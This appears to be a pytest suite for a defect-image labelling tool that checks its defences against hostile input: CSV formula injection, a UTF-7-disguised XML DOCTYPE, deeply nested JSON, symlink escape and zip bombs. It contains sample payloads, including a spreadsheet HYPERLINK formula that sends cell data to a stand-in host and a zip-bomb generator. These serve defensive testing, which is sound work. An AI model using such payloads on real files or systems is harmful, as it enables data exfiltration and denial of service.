"""Hostile input (issue 10 items 10-13): roles before decoding, artifacts, CSV, importer limits."""

import zipfile

import numpy as np
import pytest

from defectlab.errors import PermissionDenied
from defectlab.imaging import encode_png


def _add_user(ws, name, role):
    with ws.transaction() as conn:
        conn.execute("INSERT INTO users (username, role, created_at) VALUES (?, ?, 't')", (name, role))


def _spy_decode(monkeypatch):
    """Count every decode and every zip extraction the importer does."""
    from defectlab.ingest import importer

    calls = []
    real_decode, real_extract = importer.decode_image, importer.safe_extract_zip
    monkeypatch.setattr(importer, "decode_image", lambda *a, **k: calls.append("decode") or real_decode(*a, **k))
    monkeypatch.setattr(importer, "safe_extract_zip",
                        lambda *a, **k: calls.append("extract") or real_extract(*a, **k))
    return calls


def test_role_is_checked_before_any_extract_or_decode(ws, tmp_path, monkeypatch):
    from defectlab.ingest import add_plate, import_source

    _add_user(ws, "viewer", "reviewer")  # may not import nor cut crops
    calls = _spy_decode(monkeypatch)
    z = tmp_path / "a.zip"
    with zipfile.ZipFile(z, "w") as zf:
        zf.writestr("a/1.png", encode_png(np.zeros((8, 8), np.uint8)))
        zf.writestr("b/1.png", encode_png(np.ones((8, 8), np.uint8)))
    with pytest.raises(PermissionDenied):
        import_source(ws, "P", z, user="viewer")
    with pytest.raises(PermissionDenied):
        add_plate(ws, "P", encode_png(np.zeros((8, 8), np.uint8)), "plate.png", user="viewer")
    assert calls == []
    assert not any(ws.tmp_dir.glob("import-*"))


# ------------------------------------------------------------------ one CSV writer (item 12)

_EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
         "'=already", "''@x"]


def test_neutralise_is_reversible_and_inert():
    from defectlab.csvio import neutralise, unneutralise

    for s in [*_EVIL, "plain", "'quoted", "", "划痕", "a=b"]:
        out = neutralise(s)
        assert unneutralise(out) == s
        if s[:1] in "=+-@\t\r" and s:
            assert out.startswith("'")
    assert neutralise("plain") == "plain" and neutralise("'quoted") == "'quoted"
    assert unneutralise("'quoted") == "'quoted"  # a third-party apostrophe is kept
    assert neutralise(-1.5) == -1.5 and neutralise(None) == ""


def test_csv_text_has_bom_crlf_and_no_live_formula():
    import csv
    import io

    from defectlab.csvio import csv_text

    text = csv_text(["file", "n"], [[s, i] for i, s in enumerate(_EVIL)])
    assert text.startswith("\ufeff") and "\r\n" in text
    for row in list(csv.reader(io.StringIO(text[1:])))[1:]:
        assert row[0][0] not in "=+-@\t\r"


def _no_library_csv_writer():
    import pathlib
    import re

    root = pathlib.Path(__file__).resolve().parent.parent
    hits = []
    for p in [root / "app.py", *sorted((root / "defectlab").rglob("*.py"))]:
        if p.name == "csvio.py":
            continue
        text = p.read_text(encoding="utf-8")
        hits += [f"{p.name}: {m.group(0)}" for m in re.finditer(r"csv\.writer|DictWriter|\.to_csv\(", text)]
    return hits


def test_every_csv_goes_through_csvio():
    assert _no_library_csv_writer() == []


def test_export_and_predictions_csv_are_inert_and_reimport_with_the_same_labels(ws, tmp_path):
    import csv

    from defectlab.export import export_project
    from defectlab.ingest import import_source
    from defectlab.store import current_labels, get_project

    evil = '=HYPERLINK("evil.example","y")'
    src = tmp_path / "src"
    rng = np.random.default_rng(0)
    for label in ("-minus", "@at"):
        (src / label).mkdir(parents=True)
        for k in range(3):
            name = f"{evil}{k}.png" if label == "-minus" else f"+{k}.png"
            (src / label / name).write_bytes(encode_png(rng.integers(0, 255, (16, 16), dtype=np.uint8)))
    rep = import_source(ws, "P", src)
    assert rep.imported == 6
    out = tmp_path / "exp"
    export_project(ws, "P", "csv", out)
    raw = (out / "labels.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    for r in rows:
        for v in r.values():
            assert not v or v[0] not in "=+-@\t\r", v
    assert {r["label"] for r in rows} == {"'-minus", "'@at"}
    # re-import of the export: same labels as stored
    rep2 = import_source(ws, "Q", out)
    assert rep2.imported == 6 and not rep2.rejected
    before = current_labels(ws, get_project(ws, "P").id)
    after = current_labels(ws, get_project(ws, "Q").id)
    assert sorted(s.label for s in before.values()) == sorted(s.label for s in after.values())
    assert {s.label for s in after.values()} == {"-minus", "@at"}


# ------------------------------------------------------------------ importers (item 13)

def _png_file(path, seed=0):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(encode_png(np.random.default_rng(seed).integers(0, 255, (24, 24), dtype=np.uint8)))


def _voc_xml(filename, label="scratch"):
    return (f"<annotation><filename>{filename}</filename><size><width>24</width><height>24</height></size>"
            f"<object><name>{label}</name><bndbox><xmin>2</xmin><ymin>2</ymin><xmax>20</xmax><ymax>20</ymax>"
            "</bndbox></object></annotation>")


def _labels_equal(ws, name):
    from defectlab.store import current_labels, get_project

    return sorted(s.label for s in current_labels(ws, get_project(ws, name).id).values())


def _integrity(ws):
    with ws.read() as conn:
        return conn.execute("PRAGMA integrity_check").fetchone()[0]


def test_voc_overlong_filename_and_utf7_doctype_are_single_rejections(ws, tmp_path):
    from defectlab.ingest import import_source

    root = tmp_path / "voc"
    (root / "annotations").mkdir(parents=True)
    for k, label in enumerate(("scratch", "pit")):
        _png_file(root / "images" / f"good{k}.png", k)
        (root / "annotations" / f"good{k}.xml").write_text(_voc_xml(f"good{k}.png", label))
    (root / "annotations" / "long.xml").write_text(_voc_xml("a" * 5000 + ".png"))
    # a UTF-7 declaration hides "<!DOCTYPE" from a byte-level check ("+ADw-" is "<")
    utf7 = ('<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x +AFs-+ADw-!ENTITY a "aaaa"+AD4-+AF0-+AD4-'
            + _voc_xml("good0.png").replace("<", "+ADw-").replace(">", "+AD4-"))
    (root / "annotations" / "utf7.xml").write_bytes(utf7.encode("ascii"))
    report = import_source(ws, "V", root, layout="voc")
    reasons = {r["source"]: r["reason"] for r in report.to_dict()["rejected"]}
    assert report.imported == 2
    assert "too long" in reasons["annotations/long.xml"]
    assert "DOCTYPE" in reasons["annotations/utf7.xml"]
    assert all(len(r) < 400 for r in reasons.values())


def _coco(images, annotations, categories, extra=""):
    import json

    body = json.dumps({"images": images, "annotations": annotations, "categories": categories})
    return body[:-1] + extra + "}"


def test_coco_deep_nesting_list_ids_and_long_names_are_single_rejections(ws, tmp_path):
    from defectlab.ingest import import_source

    root = tmp_path / "coco"
    _png_file(root / "images" / "a.png", 1)
    _png_file(root / "images" / "b.png", 2)
    cats = [{"id": 1, "name": "scratch"}, {"id": 2, "name": "pit"}]
    good = _coco([{"id": 1, "file_name": "a.png", "width": 24, "height": 24},
                  {"id": 2, "file_name": "b.png", "width": 24, "height": 24},
                  {"id": 3, "file_name": "x" * 5000 + ".png", "width": 24, "height": 24}],
                 [{"id": 1, "image_id": 1, "category_id": 1, "bbox": [1, 1, 20, 20]},
                  {"id": 2, "image_id": 2, "category_id": 2, "bbox": [1, 1, 20, 20]},
                  {"id": 3, "image_id": 3, "category_id": 2, "bbox": [1, 1, 20, 20]}], cats)
    (root / "good.json").write_text(good)
    (root / "deep.json").write_text(_coco([], [], cats, extra=', "x": ' + "[" * 100_000 + "]" * 100_000))
    (root / "listid.json").write_text(_coco([{"id": [1], "file_name": "a.png"}],
                                            [{"id": 9, "image_id": [1], "category_id": [1], "bbox": [0, 0, 2, 2]}],
                                            [{"id": [1], "name": "scratch"}]))
    report = import_source(ws, "C", root, layout="coco")
    reasons = {r["source"]: r["reason"] for r in report.to_dict()["rejected"]}
    assert report.imported == 2
    assert "nested too deeply" in reasons["deep.json"]
    assert "needs an 'id'" in reasons["listid.json"]
    long_src = next(s for s in reasons if s.startswith("xxxx"))
    assert "too long" in reasons[long_src]
    assert _integrity(ws) == "ok"


def test_csv_long_field_and_long_path_are_single_rejections(ws, tmp_path):
    from defectlab.ingest import import_source

    root = tmp_path / "csvroot"
    lines = ["path,label"]
    for k, label in enumerate(("scratch", "pit", "scratch")):
        _png_file(root / f"i{k}.png", k)
        lines.append(f"i{k}.png,{label}")
    lines.insert(2, '"' + "y" * 200_000 + '",scratch')  # a 200 KB cell
    lines.insert(3, "z" * 5000 + ".png,pit")  # ENAMETOOLONG
    (root / "labels.csv").write_text("\n".join(lines) + "\n")
    report = import_source(ws, "S", root, layout="csv")
    reasons = {r["source"]: r["reason"] for r in report.to_dict()["rejected"]}
    assert report.imported == 3
    assert any("over 128 KB" in r for r in reasons.values()), reasons
    assert any("too long" in r for r in reasons.values()), reasons
    assert all(len(s) < 300 and len(r) < 300 for s, r in reasons.items())
    assert _labels_equal(ws, "S") == ["pit", "scratch", "scratch"]


def test_symlinked_files_are_not_followed_out_of_the_folder(ws, tmp_path):
    from defectlab.ingest import import_source

    secret = tmp_path / "outside" / "secret.png"
    _png_file(secret, 9)
    root = tmp_path / "tree"
    for label in ("a", "b"):
        _png_file(root / label / "ok.png", ord(label))
    (root / "a" / "link.png").symlink_to(secret)
    (root / "b" / "inner.png").symlink_to(root / "a" / "ok.png")  # inside: fine (a duplicate)
    report = import_source(ws, "L", root)
    reasons = {r["source"]: r["reason"] for r in report.to_dict()["rejected"]}
    assert "a/link.png" in reasons and "outside the import folder" in reasons["a/link.png"]
    assert report.imported == 2
    # CSV naming the link is refused too
    (root / "labels.csv").write_text("path,label\na/link.png,a\na/ok.png,a\nb/ok.png,b\n")
    report = import_source(ws, "L2", root, layout="csv")
    reasons = {r["source"]: r["reason"] for r in report.to_dict()["rejected"]}
    assert "outside the import folder" in reasons["a/link.png"]


def _zip_of_1mb_entries(path, n):
    """``n`` entries of 1 MiB of zeros, each just at the per-entry ratio threshold (the reported bomb)."""
    import zlib

    block = b"\x00" * (1024 * 1024)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for i in range(n):
            zf.writestr(f"d/{i}.png", block)
    assert zlib  # deflate available
    return path


def test_zip_archive_wide_ratio_and_free_disk_are_checked_before_writing(ws, tmp_path, monkeypatch):
    import shutil as _shutil

    from defectlab.errors import InputError
    from defectlab.ingest import archive, import_source

    z = _zip_of_1mb_entries(tmp_path / "bomb.zip", 300)
    assert z.stat().st_size < 1024 * 1024  # 300 MB of entries in under 1 MB
    with pytest.raises(InputError, match=r"looks like a zip bomb: .* expands into 300.0 MB"):
        archive.safe_extract_zip(z, tmp_path / "out")
    assert not (tmp_path / "out").exists()
    # and through the importer: nothing stored, nothing left in tmp/
    with pytest.raises(InputError, match="zip bomb"):
        import_source(ws, "Z", z)
    assert not any(ws.tmp_dir.glob("import-*"))
    # free disk: an honest archive that does not fit is refused before writing
    small = tmp_path / "ok.zip"
    with zipfile.ZipFile(small, "w") as zf:
        zf.writestr("a/1.png", encode_png(np.zeros((8, 8), np.uint8)))
    usage = _shutil.disk_usage(tmp_path)
    monkeypatch.setattr(archive.shutil, "disk_usage", lambda p: usage._replace(free=100 * 1024 * 1024))
    with pytest.raises(InputError, match="is free on the workspace disk"):
        archive.safe_extract_zip(small, tmp_path / "out2")
    assert not (tmp_path / "out2").exists()


def test_zip_full_disk_while_writing_leaves_nothing(tmp_path, monkeypatch):
    import errno

    from defectlab.errors import InputError
    from defectlab.ingest import archive

    z = tmp_path / "a.zip"
    with zipfile.ZipFile(z, "w") as zf:
        for i in range(3):
            zf.writestr(f"a/{i}.png", encode_png(np.full((8, 8), i, np.uint8)))
    calls = {"n": 0}
    real = archive._copy_entry

    def full(*a, **k):
        calls["n"] += 1
        if calls["n"] == 2:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(*a, **k)

    monkeypatch.setattr(archive, "_copy_entry", full)
    with pytest.raises(InputError, match="disk is full"):
        archive.safe_extract_zip(z, tmp_path / "out")
    assert not (tmp_path / "out").exists()
